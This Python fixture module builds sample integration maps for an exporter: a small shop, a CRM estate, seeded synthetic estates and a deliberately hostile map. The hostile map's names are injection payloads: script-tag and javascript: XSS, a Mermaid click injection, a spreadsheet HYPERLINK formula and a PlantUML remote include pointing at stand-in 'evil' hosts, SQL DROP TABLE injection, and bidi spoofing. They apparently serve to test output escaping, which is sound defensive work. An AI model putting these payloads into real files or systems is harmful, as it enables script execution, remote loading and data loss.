"""Maps to export: a small one, a CRM estate, synthetic estates of any size, and a hostile one."""

from __future__ import annotations

import random

from mapgen.model.evidence import Evidence
from mapgen.model.flow import Flow
from mapgen.model.integration_map import Coverage, CoverageNotice, IntegrationMap, RootCoverage
from mapgen.model.naming import fingerprint
from mapgen.model.system import System
from mapgen.model.vocabulary import ConnectorKind, EvidenceKind, FlowStatus, Initiator, Layer, Tier

HOSTILE_NAMES = (
    '"]; click s_x "javascript:alert(1)" %%',
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil")',
    "end",
    "a\u202egnp.exe\u0000\u200b\x1b[31m",
    "`**bold** | [x](javascript:alert(1))`",
    "subgraph x\n  y --> z\nend",
    "'; DROP TABLE flows; --",
    "{{7*7}} ${x} #quot; &amp; \\",
    "!include http://evil.example/x.puml\n@enduml",
    "名前とても長いシステム",
    "W" * 200,
)

_API, _HOOK, _CDC = ConnectorKind.API, ConnectorKind.WEBHOOK, ConnectorKind.CDC
_ELT, _RETL, _STREAM = ConnectorKind.BATCH_ELT, ConnectorKind.REVERSE_ETL, ConnectorKind.STREAMING
_FILE = ConnectorKind.FILE


def system(
    id_: str, name: str, kind: str, layer: Layer, *, external: bool = False, domain: str | None = None
) -> System:
    return System(id=id_, name=name, kind=kind, layer=layer, external=external, domain=domain)


def flow(
    id_: str,
    source: str,
    target: str,
    connector: ConnectorKind = _API,
    status: FlowStatus = FlowStatus.ACCEPTED,
    *,
    confidence: float = 0.95,
    signals: tuple[str, ...] = (),
    via: tuple[str, ...] = (),
    two_way: bool = False,
    initiator: Initiator = Initiator.SOURCE,
    tier: Tier = Tier.CORE,
    evidence: tuple[str, ...] = (),
) -> Flow:
    return Flow(
        id=id_,
        source=source,
        target=target,
        connector=connector,
        status=status,
        confidence=confidence,
        signals=list(signals),
        via=list(via),
        two_way=two_way,
        initiator=initiator,
        tier=tier,
        objects=[id_.split(".")[1]],
        evidence=list(evidence),
        fingerprint=fingerprint(id_),
    )


def evidence(id_: str, path: str, line: int, kind: EvidenceKind = EvidenceKind.CODE) -> Evidence:
    return Evidence(
        id=id_,
        kind=kind,
        root="shop",
        path=path,
        line=line,
        end_line=line,
        excerpt="client.post(url)",
        extractor="code",
        rule="python/requests.post",
        says="calls HubSpot",
        weight=0.9,
    )


def small() -> IntegrationMap:
    user, integration, data, analytics = Layer
    return IntegrationMap(
        name="corner shop",
        systems=[
            system("shop", "Web shop", "frontend", user),
            system("orders", "Order service", "service", integration),
            system("stripe", "Stripe", "payments", integration, external=True),
            system("orders-db", "Orders database", "database", data),
            system("metabase", "Metabase", "bi", analytics),
        ],
        flows=[
            flow("shop.order.create", "shop", "orders", evidence=("ev1", "ev2")),
            flow("orders.charge.create", "orders", "stripe", evidence=("ev3",)),
            flow("stripe.invoice.notify", "stripe", "orders", _HOOK),
            flow("orders.order.store", "orders", "orders-db"),
            flow("orders-db.order.report", "orders-db", "metabase", _ELT, initiator=Initiator.TARGET),
        ],
        evidence=[
            evidence("ev1", "web/src/cart.ts", 42),
            evidence("ev2", "orders/openapi.yaml", 17, EvidenceKind.SPEC),
            evidence("ev3", "orders/app/pay.py", 8),
        ],
        coverage=Coverage(
            roots=[RootCoverage(root="shop", files=120, unsupported_languages={"cobol": 2})],
            notices=[CoverageNotice(code="spec.invalid", message="A specification is not valid", example="a.yaml")],
            unresolved_hosts=["legacy.internal"],
        ),
    )


def crm_estate() -> IntegrationMap:
    user, integration, data, analytics = Layer
    proposed = FlowStatus.PROPOSED
    return IntegrationMap(
        name="CRM estate",
        systems=[
            system("web-forms", "Website and forms", "forms", user, domain="marketing"),
            system("hubspot", "HubSpot", "crm", user, external=True, domain="sales"),
            system("zendesk", "Zendesk", "support", user, external=True, domain="support"),
            system("mailchimp", "Mailchimp", "esp", user, external=True, domain="marketing"),
            system("crm-sync", "CRM sync service", "service", integration, domain="sales"),
            system("billing", "Billing service", "service", integration, domain="billing"),
            system("kafka", "Kafka", "broker", integration, domain="platform"),
            system("stripe", "Stripe", "payments", integration, external=True, domain="billing"),
            system("customer-db", "Customer database", "database", data, domain="sales"),
            system("snowflake", "Snowflake", "warehouse", data, external=True, domain="analytics"),
            system("dbt", "dbt models", "transform", analytics, domain="analytics"),
            system("looker", "Looker", "bi", analytics, external=True, domain="analytics"),
        ],
        flows=[
            flow("web-forms.lead.create", "web-forms", "hubspot", _HOOK),
            flow("hubspot.contact.sync", "hubspot", "crm-sync", _HOOK, two_way=True),
            flow("crm-sync.contact.upsert", "crm-sync", "customer-db"),
            flow("crm-sync.contact.publish", "crm-sync", "kafka", _STREAM),
            flow("kafka.contact.consume", "kafka", "billing", _STREAM),
            flow("billing.charge.create", "billing", "stripe"),
            flow("stripe.invoice.notify", "stripe", "billing", _HOOK),
            flow("billing.invoice.update", "billing", "hubspot", _API, proposed, confidence=0.62),
            flow("hubspot.segment.push", "hubspot", "mailchimp", _API, signals=("undocumented",)),
            flow("zendesk.ticket.sync", "zendesk", "crm-sync", _API, proposed, initiator=Initiator.TARGET),
            flow("customer-db.contact.replicate", "customer-db", "snowflake", _CDC),
            flow("stripe.invoice.load", "stripe", "snowflake", _ELT),
            flow("snowflake.model.transform", "snowflake", "dbt", _ELT),
            flow("dbt.report.serve", "dbt", "looker", _API),
            flow("snowflake.score.activate", "snowflake", "hubspot", _RETL),
            flow("billing.ledger.export", "billing", "snowflake", _FILE, signals=("dead",)),
            flow("kafka.event.sink", "kafka", "snowflake", _STREAM),
        ],
    )


_NAMES = {
    Layer.USER_FACING: ("crm", "support", "esp", "frontend", "ads", "forms", "cms", "marketing_automation", "chat"),
    Layer.INTEGRATION: ("service", "service", "service", "gateway", "broker", "ipaas", "payments", "auth", "erp"),
    Layer.DATA: ("database", "database", "cache", "object_storage", "warehouse", "search"),
    Layer.ANALYTICS: ("bi", "analytics", "ml_platform", "llm"),
}
_SHARE = {Layer.USER_FACING: 0.25, Layer.INTEGRATION: 0.40, Layer.DATA: 0.25, Layer.ANALYTICS: 0.10}
_WORDS = (
    "Order Customer Invoice Catalog Pricing Ledger Support Campaign Profile Payment Shipping Consent Loyalty".split()
)
_VERBS = "sync create update publish load notify export".split()


def synthetic(systems: int, flows: int, seed: int = 7, *, status: FlowStatus = FlowStatus.ACCEPTED) -> IntegrationMap:
    """An estate as real ones are: most flows stay within a domain, few hubs carry many. The same seed, the same map."""
    rng = random.Random(seed)
    nodes = _systems(systems, rng)
    hubs = rng.sample(nodes, max(1, systems // 15))
    homes = {node.id: [other for other in nodes if other.name.split()[0] == node.name.split()[0]] for node in nodes}
    made: dict[str, Flow] = {}
    while len(made) < flows:
        source = rng.choice(nodes)
        target = rng.choice(rng.choices([homes[source.id], hubs, nodes], [0.7, 0.22, 0.08])[0])
        if source is not target:
            flow_id = f"{source.id}.{rng.choice(_WORDS).lower()}.{rng.choice(_VERBS)}-{len(made)}"
            made[flow_id] = flow(flow_id, source.id, target.id, _connector(source, target, rng), status)
    return IntegrationMap(name=f"synthetic estate of {systems}", systems=nodes, flows=list(made.values()))


def _connector(source: System, target: System, rng: random.Random) -> ConnectorKind:
    if "broker" in (source.kind, target.kind):
        return _STREAM
    if source.layer is Layer.DATA:
        return rng.choice([_CDC, _ELT, _RETL, _API])
    return rng.choice([_API, _API, _API, _HOOK, _FILE, ConnectorKind.IPAAS])


def _systems(count: int, rng: random.Random) -> list[System]:
    nodes: list[System] = []
    for layer, share in _SHARE.items():
        for _ in range(max(1, round(count * share))):
            kind, word, number = rng.choice(_NAMES[layer]), rng.choice(_WORDS), len(nodes)
            name = f"{word} {kind.replace('_', ' ')}"
            domain = word.lower() if count > 400 else None
            nodes.append(system(f"s{number}", name, kind, layer, external=rng.random() < 0.3, domain=domain))
    return nodes[:count]


def hostile() -> IntegrationMap:
    layers = list(Layer)
    systems = [system(f"h{number}", name, "crm", layers[number % 4]) for number, name in enumerate(HOSTILE_NAMES)]
    flows = [
        flow(f"h{number}.end.subgraph", f"h{number}", f"h{(number + 1) % len(systems)}", signals=(name,))
        for number, name in enumerate(HOSTILE_NAMES)
    ]
    for item, name in zip(flows, HOSTILE_NAMES, strict=True):
        item.objects = [name]
        item.channels = [name]
        item.owner = name
    return IntegrationMap(name=HOSTILE_NAMES[1] + "\n" + HOSTILE_NAMES[9], systems=systems, flows=flows)
